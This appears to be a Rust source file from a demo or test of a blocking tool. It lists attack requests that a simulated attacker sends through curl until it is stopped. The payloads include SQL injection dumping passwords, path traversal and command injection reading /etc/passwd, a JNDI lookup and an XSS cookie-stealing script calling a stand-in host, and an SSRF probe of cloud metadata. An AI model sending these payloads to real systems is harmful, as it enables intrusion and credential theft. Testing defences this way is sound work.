//! What the attacker tries, one after the other.

/// An attack: its name for the viewer, and what goes to curl after the address.
pub struct Attack {
    /// In plain words.
    pub name: &'static str,
    /// Path and query, then curl's options.
    pub request: &'static [&'static str],
}

/// Taken in turn until the attacker is blocked.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "SQL injection",
        request: &["/search?q=tea%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-"],
    },
    Attack { name: "path traversal", request: &["/static?file=../../../../etc/passwd"] },
    Attack { name: "command injection", request: &["/ping?host=127.0.0.1;cat%20/etc/passwd"] },
    Attack { name: "JNDI lookup", request: &["/", "--user-agent", "${jndi:ldap://203.0.113.66/a}"] },
    Attack {
        name: "cross-site scripting",
        request: &[
            "/comments",
            "--data-urlencode",
            "text=<script>fetch('//203.0.113.66/'+document.cookie)</script>",
        ],
    },
    Attack {
        name: "cloud metadata (SSRF)",
        request: &["/fetch?url=http://169.254.169.254/latest/meta-data/"],
    },
];
